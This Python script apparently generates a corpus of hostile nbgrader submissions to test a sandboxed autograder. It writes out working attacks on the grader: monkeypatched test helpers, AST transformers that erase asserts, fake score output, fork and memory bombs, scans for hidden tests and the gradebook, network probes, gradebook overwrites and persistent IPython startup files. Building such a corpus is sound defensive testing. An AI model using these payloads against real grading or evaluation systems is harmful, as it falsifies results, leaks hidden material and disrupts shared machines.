"""Generate the hostile-submission corpus for lesson 04: broken uploads and attacks on the grader.

    python tests/hostile/make_corpus.py COURSE_DIR      # writes COURSE_DIR/submitted/<case>/04_attention/...

Every case is one student's submission (the student id is the case's name), built from the lesson's own student
version (``release/``) and reference answers (``source/``) of the nbgrader course ``COURSE_DIR``. Each case
says what the grader must report (a regular expression that one of its ``PROBLEM`` lines must match) and the
most points it may earn: the points its honest answers deserve. Attacks that try to *gain* points are written
with wrong answers (functions that return zeros of the right shape, the wrong quiz letter), so any point they
earn is an attack that worked. The attacks know the course's real paths (they are written into their code), as
the strongest attacker would.

``tests/test_sandbox_corpus.py`` grades the whole corpus together with a correct student and checks every
expectation; :data:`MARKER` is in the name of every file and process an attack tries to leave behind.
"""

from __future__ import annotations

import copy
import json
import re
import sys
import textwrap
from dataclasses import asdict, dataclass, field
from pathlib import Path

import nbformat

SLUG = "04_attention"
MARKER = "hostile-7f3a"
ROOT = Path(__file__).resolve().parents[2]


@dataclass
class Case:
    """One hostile submission and what the grader must do with it."""

    name: str
    what: str                          # what the submission does, in one sentence
    problem: str | None                # regex one PROBLEM line must match (None: graded normally, no problem)
    max_score: float                   # the points its honest answers deserve: it must not earn more
    score: float | None = None         # exact expected score, where the outcome is fully determined
    graded: bool = True                # whether it should reach the autograder at all
    files: dict = field(default_factory=dict)   # file name -> bytes, written in submitted/<name>/04_attention/


def _cells(notebook, grade_id: str):
    return next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def reference_answers(source) -> dict[str, str]:
    answers = {}
    for cell in source.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and not meta.get("grade"):
            answers[meta["grade_id"]] = re.sub(r"[ \t]*### (BEGIN|END) SOLUTION[ \t]*\n?", "", cell.source)
    return answers


def zero_answers(correct: dict[str, str]) -> dict[str, str]:
    """Wrong answers of the right shape: every test must fail on them."""
    letter = re.search(r'answer_04_4\s*=\s*"(\w)"', correct["ex04_4"]).group(1)
    wrong = next(option for option in "abcd" if option != letter)
    return {
        "ex04_1": "def attention_scores(q, k):\n    return torch.zeros(*q.shape[:-1], k.shape[-2])\n",
        "ex04_2": "def attention_weights(scores, mask=None):\n    return torch.zeros_like(scores)\n",
        "ex04_3": ("def scaled_dot_product_attention(q, k, v, mask=None):\n"
                   "    return torch.zeros(*q.shape[:-1], v.shape[-1]), torch.zeros(*q.shape[:-1], k.shape[-2])\n"),
        "ex04_4": f'answer_04_4 = "{wrong}"\n',
    }


def fill(release, answers: dict[str, str], prefix: dict[str, str] | None = None):
    """The student version with answers typed in; ``prefix`` code goes at the top of some answer cells."""
    notebook = copy.deepcopy(release)
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell.source = (prefix or {}).get(grade_id, "") + answers[grade_id]
    return notebook


def dump(notebook) -> bytes:
    return nbformat.writes(notebook).encode()


def build(course: Path, cell_seconds: int, victim: str = "correct") -> list[Case]:
    """All the cases, for the course in ``course`` (its real paths are written into the attacks)."""
    release = nbformat.read(course / "release" / SLUG / f"{SLUG}.ipynb", as_version=4)
    source = nbformat.read(course / "source" / SLUG / f"{SLUG}.ipynb", as_version=4)
    good = reference_answers(source)
    zero = zero_answers(good)
    points = {cell.metadata["nbgrader"]["grade_id"]: float(cell.metadata["nbgrader"]["points"])
              for cell in release.cells if cell.metadata.get("nbgrader", {}).get("grade")}
    full = sum(points.values())
    paths = {
        "gradebook": str(course / "gradebook.db"), "config": str(course / "nbgrader_config.py"),
        "source": str(course / "source" / SLUG / f"{SLUG}.ipynb"), "repo_config": str(ROOT / "grader" /
                                                                                      "nbgrader_config.py"),
        "victim": str(course / "submitted" / victim / SLUG / f"{SLUG}.ipynb"), "course": str(course),
        "solutions": str(ROOT / "solutions" / f"{SLUG}.ipynb"),
    }
    cases: list[Case] = []

    def add(name, what, problem, max_score, notebook=None, score=None, graded=True, files=None):
        files = files or {f"{SLUG}.ipynb": dump(notebook)}
        cases.append(Case(name, what, problem, max_score, score, graded, files))

    def attack(code: str, where: str = "ex04_1", answers=None):
        return fill(release, answers or zero, {where: textwrap.dedent(code).lstrip() + "\n"})

    # --- broken uploads ---------------------------------------------------------------------------------
    add("not_json", "an upload cut short", "not a readable notebook", 0, graded=False,
        files={f"{SLUG}.ipynb": b'{"cells": [ this upload was cut short'})
    add("empty_file", "an empty file", "not a readable notebook", 0, graded=False, files={f"{SLUG}.ipynb": b""})
    add("binary_garbage", "a zip archive renamed .ipynb", "not a readable notebook", 0, graded=False,
        files={f"{SLUG}.ipynb": b"PK\x03\x04" + bytes(range(256)) * 8})
    add("json_not_notebook", "JSON, but not a notebook", "not a Jupyter notebook", 0, graded=False,
        files={f"{SLUG}.ipynb": b'{"answers": {"ex04_1": "q @ k.T"}}'})
    other = ROOT / "notebooks" / "05_multi_head_attention.ipynb"
    wrong_lesson = nbformat.read(other, as_version=4) if other.is_file() else copy.deepcopy(release)
    if not other.is_file():
        for cell in wrong_lesson.cells:
            if "nbgrader" in cell.metadata:
                cell.metadata["nbgrader"]["grade_id"] = cell.metadata["nbgrader"]["grade_id"].replace("ex04", "ex05")
                cell.id = cell.metadata["nbgrader"]["grade_id"]
    add("wrong_lesson", "the notebook of lesson 05 handed in for lesson 04", "wrong lesson", 0, wrong_lesson,
        graded=False)

    # --- structure: repaired and graded -------------------------------------------------------------------
    recreated = nbformat.v4.new_notebook(metadata=copy.deepcopy(release.metadata))
    for cell in fill(release, good).cells:
        maker = nbformat.v4.new_code_cell if cell.cell_type == "code" else nbformat.v4.new_markdown_cell
        recreated.cells.append(maker(cell.source))           # no nbgrader metadata, new cell ids
    add("recreated", "every cell copied into a new notebook (no nbgrader metadata, new cell ids)",
        "no answer cell of this lesson is present", full, recreated, score=full)
    add("renamed_copy", "correct answers in a file named 'Copy of 04_attention.ipynb'", "renamed file", full,
        files={f"Copy of {SLUG}.ipynb": dump(fill(release, good))}, score=full)
    add("nbformat3", "correct answers saved as nbformat 3", "nbformat 3", full,
        files={f"{SLUG}.ipynb": nbformat.writes(nbformat.convert(fill(release, good), 3)).encode()}, score=full)
    split = fill(release, good)
    index = split.cells.index(_cells(split, "ex04_3"))
    lines = split.cells[index].source.splitlines(keepends=True)
    second = copy.deepcopy(split.cells[index])
    split.cells[index].source, second.source = "".join(lines[:len(lines) // 2]), "".join(lines[len(lines) // 2:])
    second.id = "split-half"
    split.cells.insert(index + 1, second)
    add("split_answer", "answer ex04_3 split in two with Jupyter's 'split cell'", "split", full, split, score=full)
    moved = fill(release, good)
    answer = _cells(moved, "ex04_2")
    moved.cells.remove(answer)
    moved.cells.insert(moved.cells.index(_cells(moved, "ex04_2_test")) + 1, answer)
    add("answer_below_test", "answer ex04_2 moved below its test", "moved below their tests", full, moved,
        score=full)
    tests = fill(release, good)
    tests.cells.remove(_cells(tests, "ex04_1_test"))
    copied = copy.deepcopy(_cells(tests, "ex04_3_test"))
    copied.id = "copied-test"
    tests.cells.append(copied)
    add("tests_deleted_and_copied", "test ex04_1_test deleted, test ex04_3_test pasted a second time",
        "test cells deleted: ex04_1_test", full, tests, score=full)
    deleted = fill(release, good)
    deleted.cells.remove(_cells(deleted, "ex04_2"))
    add("answer_deleted", "answer cell ex04_2 deleted (ex04_3 needs it)", "answer cells deleted: ex04_2",
        full - points["ex04_2_test"] - points["ex04_3_test"], deleted,
        score=full - points["ex04_2_test"] - points["ex04_3_test"])
    stripped = fill(release, good)
    for cell in stripped.cells:
        cell.metadata.pop("nbgrader", None)
    add("metadata_stripped", "every cell's nbgrader metadata removed by a tool (cell ids kept)",
        "metadata stripped", full, stripped, score=full)
    forged = fill(release, zero)
    for cell in forged.cells:
        meta = cell.metadata.get("nbgrader")
        if meta:
            meta["schema_version"] = 1
            meta.pop("cell_type", None)
            if meta.get("grade"):
                meta["points"] = 100
    bonus = nbformat.v4.new_code_cell("print('bonus: full marks please')")
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "points": 50, "locked": True,
                                  "solution": False, "schema_version": 3}
    forged.cells.append(bonus)
    add("forged_metadata", "old nbgrader metadata (schema 1), test points set to 100, a forged 50-point cell",
        "unknown graded cells bonus", 0, forged, score=0)

    # --- hiding errors and patching what the tests use (wrong answers: any point is a successful attack) --
    add("error_hiding", "a custom IPython exception handler and a silenced traceback hide every error",
        "can tamper with grading", 0, attack("""
            ip = get_ipython()
            ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
            ip.showtraceback = lambda *args, **kwargs: None
            ip._showtraceback = lambda *args, **kwargs: None
            type(ip).showtraceback = lambda *args, **kwargs: None
            import sys
            sys.excepthook = lambda *args: None
            from IPython.core.interactiveshell import ExecutionResult
            ExecutionResult.error_in_exec = property(lambda self: None, lambda self, value: None)
            ExecutionResult.error_before_exec = property(lambda self: None, lambda self, value: None)
        """), score=0)
    add("patch_helpers", "torch.testing, torch comparisons, the PyTorch reference and the quiz grader replaced, "
        "and their code and default tolerances swapped in place",
        "can tamper with grading", 0, attack("""
            import math
            import torch
            import torch.nn.functional as F
            import course.quiz
            def _yes(*args, **kwargs):
                return True
            torch.testing.assert_close = lambda *args, **kwargs: None
            torch.allclose = _yes
            torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)
            torch.equal = _yes
            torch.all = lambda *args, **kwargs: torch.tensor(True)
            torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
            torch.Tensor.allclose = _yes
            F.scaled_dot_product_attention = lambda q, k, v, attn_mask=None, **kw: torch.zeros(*q.shape[:-1], v.shape[-1])
            torch.softmax = lambda x, dim=None, **kw: torch.zeros_like(x)
            torch.einsum = lambda eq, a, b: torch.zeros(*a.shape[:-1], b.shape[-2])
            math.sqrt = lambda x: 1.0
            real_grade_answer = course.quiz.grade_answer
            real_grade_answer.__code__ = (lambda *args, **kwargs: None).__code__     # in place, too
            torch.testing.assert_close.__kwdefaults__ = {"atol": 1e9, "rtol": 1e9}
            course.quiz.grade_answer = lambda *args, **kwargs: None
            course.quiz.check_answer = lambda *args, **kwargs: None
        """), score=0)
    add("rebind_globals", "the notebook's names (F, check_answer), built-ins (abs) and exceptions rebound",
        "redefines F", 0, attack("""
            import types
            import builtins
            F = types.SimpleNamespace(   # the tests' reference now agrees with the zero answers
                scaled_dot_product_attention=lambda q, k, v, attn_mask=None: torch.zeros(*q.shape[:-1], v.shape[-1]))
            def check_answer(*args, **kwargs):
                pass
            def grade_answer(*args, **kwargs):
                pass
            def abs(x):
                return 0
            AssertionError = Warning
            builtins.AssertionError = Warning
            builtins.abs = lambda x: 0
            builtins.NotImplementedError = Warning
            __builtins__.__dict__["all"] = lambda *args: True
        """), score=0)
    add("transformers", "input and AST transformers that rewrite every test into 'pass'",
        "can tamper with grading", 0, attack("""
            import ast
            ip = get_ipython()
            def neuter(lines):
                return ["pass\\n"] if any("assert" in line or "grade_answer" in line for line in lines) else lines
            ip.input_transformers_post.append(neuter)
            class NoAsserts(ast.NodeTransformer):
                def visit_Assert(self, node):
                    return ast.Pass()
                def visit_Expr(self, node):
                    return ast.Pass()
            ip.ast_transformers.append(NoAsserts())
        """), score=0)
    add("neuter_everything", "an input transformer that turns every later cell, the grader's too, into 'pass'",
        "was not run", 0, attack("""
            get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
        """), score=0)
    add("run_cell_patch", "IPython's and the kernel's execution methods replaced to skip the tests",
        "was not run", 0, attack("""
            ip = get_ipython()
            real_run_cell = ip.run_cell
            async def fake_async(raw_cell, *args, **kwargs):
                return real_run_cell("None")
            ip.run_cell = lambda raw_cell, *args, **kwargs: real_run_cell("None")
            ip.run_cell_async = fake_async
            type(ip).run_cell_async = fake_async
        """), score=0)
    add("settrace_repatch", "a tracer that patches torch.testing and the quiz grader again whenever a cell "
        "calls a function, so that a restoration before a test would be undone during it",
        "can tamper with grading", 0, attack("""
            import sys, threading, torch, course.quiz
            def _repatch(frame, event, arg):
                if event == "call" and "/ipykernel_" in frame.f_code.co_filename:
                    torch.testing.assert_close = lambda *args, **kwargs: None
                    torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)
                    course.quiz.grade_answer = lambda *args, **kwargs: None
                return None
            sys.settrace(_repatch)
            threading.settrace(_repatch)
        """), score=0)
    add("patch_thread", "a stubborn background thread that keeps re-patching torch.testing while tests run",
        "could not be stopped|was not run", 0, attack("""
            import threading, time, torch
            def keep_patching():
                while True:
                    try:
                        while True:
                            torch.testing.assert_close = lambda *a, **k: None
                            time.sleep(0.001)
                    except BaseException:
                        continue
            threading.Thread(target=keep_patching, daemon=True, name="patcher").start()
        """), score=0)
    add("fake_score", "a function the tests call displays '2.0' (nbgrader's partial-credit output) and "
        "prints fake scores", "displayed a value", 0, attack("""
            import sys
            def attention_scores(q, k):
                print("Tests passed. Score: 8 / 8")
                sys.displayhook(2.0)
                return torch.zeros(*q.shape[:-1], k.shape[-2])
        """, answers={**zero, "ex04_1": ""}), score=0)

    # --- resources and processes ----------------------------------------------------------------------------
    add("exit_kernel", "os._exit(0) at the start of answer ex04_2 (ex04_1 answered correctly)",
        "kernel died in cell ex04_2", points["ex04_1_test"],
        attack("import os\nos._exit(0)\n", "ex04_2", answers=good), score=points["ex04_1_test"])
    add("infinite_loop", "an endless loop in answer ex04_4 (the others are correct)", "timeout in cell ex04_4",
        full - points["ex04_4_test"], attack("while True:\n    pass\n", "ex04_4", answers=good),
        score=full - points["ex04_4_test"])
    add("ignore_interrupt", "an endless loop that ignores the interrupt, in answer ex04_4",
        "timeout in cell ex04_4", full - points["ex04_4_test"], attack("""
            import signal
            signal.signal(signal.SIGINT, signal.SIG_IGN)
            while True:
                pass
        """, "ex04_4", answers=good), score=full - points["ex04_4_test"])
    add("sleep_near_timeout", f"sleeps {max(1, cell_seconds - 8)} s in an answer, just under the {cell_seconds} s "
        "limit per cell: slow, not hostile; graded normally", None, full,
        attack(f"import time\ntime.sleep({max(1, cell_seconds - 8)})\n", "ex04_4", answers=good), score=full)
    add("fork_bomb", "forks until the process limit, children sleeping forever (last answer, correct answers)",
        "processes it started were still running", full, attack(f"""
            import os
            children = 0
            try:
                for _ in range(100000):
                    if os.fork() == 0:
                        os.execv("/bin/sh", ["sh", "-c", "sleep 900 # {MARKER}"])
                    children += 1
            except OSError as error:
                print("fork stopped after", children, "children:", error)
        """, "ex04_4", answers=good), score=full)
    add("memory_bomb", "allocates 1 GiB after 1 GiB, up to 32 GiB (last answer)", "memory limit",
        full - points["ex04_4_test"], attack("""
            hoard = []
            for _ in range(32):
                hoard.append(torch.ones(2 ** 28))
        """, "ex04_4", answers=good), score=full - points["ex04_4_test"])
    add("huge_output", "prints 40 MiB in an answer", "output too large", full,
        attack("for _ in range(40):\n    print('x' * 2 ** 20)\n", "ex04_1", answers=good), score=full)

    # --- files, network, other kernels, hidden tests (correct answers: the attack itself must fail) --------
    add("read_hidden", "looks for the hidden tests, the reference solutions and the gradebook, with the "
        "course's real paths and by walking the file system; tries the network", "can tamper with grading", full, attack(f"""
            import os
            found = []
            for path in {list(paths.values())!r}:
                try:
                    with open(path, "rb") as file:
                        found.append((path, file.read(200)))
                except OSError as error:
                    print("cannot read", path, "-", error.strerror)
            for top in ("/", "/tmp", os.path.expanduser("~")):
                for folder, dirs, files in os.walk(top):
                    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages")]
                    for name in files:
                        if name.endswith((".ipynb", ".db")) or "grader" in name:
                            found.append(os.path.join(folder, name))
            print("found:", found)
            print("environment:", sorted(os.environ))
            import socket
            for host, port in (("1.1.1.1", 80), ("127.0.0.1", 22), ("127.0.0.1", 8888)):
                try:
                    socket.create_connection((host, port), timeout=2).close()
                    print("CONNECTED", host, port)
                except OSError as error:
                    print("no connection to", host, port, "-", error)
            try:
                print("RESOLVED", socket.gethostbyname("pypi.org"))
            except OSError as error:
                print("no name resolution -", error)
        """, answers=good), score=full)
    add("write_everywhere", "overwrites the gradebook, another student's notebook and the grader's configuration "
        "(real paths), leaves marked files in /tmp and the home folder, starts a daemon",
        "can tamper with grading", full, attack(f"""
            import os, sqlite3, subprocess
            for path in ({paths['gradebook']!r}, {paths['victim']!r}, {paths['config']!r}, {paths['repo_config']!r},
                         {paths['source']!r}):
                try:
                    with open(path, "w") as file:
                        file.write("hacked")
                    print("WROTE", path)
                except OSError as error:
                    print("cannot write", path, "-", error.strerror)
                try:
                    os.remove(path)
                    print("REMOVED", path)
                except OSError as error:
                    print("cannot remove", path, "-", error.strerror)
            try:
                db = sqlite3.connect({paths['gradebook']!r})
                db.execute("UPDATE grade SET auto_score = 100")
                db.commit()
                print("GRADEBOOK CHANGED")
            except Exception as error:
                print("gradebook:", error)
            for folder in ("/tmp", os.path.expanduser("~"), {paths['course']!r}):
                try:
                    with open(os.path.join(folder, "{MARKER}-file"), "w") as file:
                        file.write("left behind")
                except OSError as error:
                    print("cannot write in", folder, "-", error.strerror)
            subprocess.Popen(["/bin/sh", "-c", "sleep 900 # {MARKER}"], start_new_session=True)
        """, answers=good), score=full)
    add("ipython_startup", "writes an IPython start-up file meant to run in every later student's kernel",
        "can tamper with grading", full, attack(f"""
            import os
            payload = "print('EVIL STARTUP {MARKER}')\\nimport torch\\ntorch.testing.assert_close = lambda *a, **k: None\\n"
            for base in (os.path.expanduser("~"), "/root", os.environ.get("IPYTHONDIR", "~/.ipython")):
                folder = os.path.join(os.path.expanduser(base), ".ipython", "profile_default", "startup")
                try:
                    os.makedirs(folder, exist_ok=True)
                    with open(os.path.join(folder, "00-{MARKER}.py"), "w") as file:
                        file.write(payload)
                except OSError as error:
                    print("cannot write", folder, "-", error.strerror)
        """, answers=good), score=full)
    add("frame_peek", "the graded function reads the test that calls it from its caller's frame and prints it",
        "contains lines of the hidden tests", full, attack("""
            import sys, linecache
            _printed = set()
            def _peek():
                frame = sys._getframe(2)
                name = frame.f_code.co_filename
                if name not in _printed:
                    _printed.add(name)
                    print("".join(linecache.getlines(name)))
        """, "ex04_1", answers={**good, "ex04_1": good["ex04_1"].replace(
            "    d_k = q.shape[-1]", "    _peek()\n    d_k = q.shape[-1]")}), score=full)
    add("read_history", "after three graded tests, prints IPython's input history, line cache and last "
        "traceback", "can tamper with grading", full, attack("""
            import linecache, sys
            print("In:", In)
            print("_ih:", _ih, _i, _ii, _iii)
            print("history:", get_ipython().history_manager.input_hist_raw)
            print("linecache:", ["".join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2])
            print("last traceback:", getattr(sys, "last_traceback", None))
        """, "ex04_4", answers=good), score=full)
    return cases


def write(cases: list[Case], course: Path) -> None:
    for case in cases:
        folder = course / "submitted" / case.name / SLUG
        folder.mkdir(parents=True, exist_ok=True)
        for name, content in case.files.items():
            (folder / name).write_bytes(content)


def main(argv: list[str] | None = None) -> int:
    import argparse

    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("course", type=Path, help="an nbgrader course with lesson 04's source/ and release/")
    parser.add_argument("--cell-timeout", type=int, default=180)
    args = parser.parse_args(argv)
    cases = build(args.course.resolve(), args.cell_timeout)
    write(cases, args.course)
    summary = [{key: value for key, value in asdict(case).items() if key != "files"} for case in cases]
    (args.course / "corpus.json").write_text(json.dumps(summary, indent=1))
    print(f"{len(cases)} cases written to {args.course / 'submitted'}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
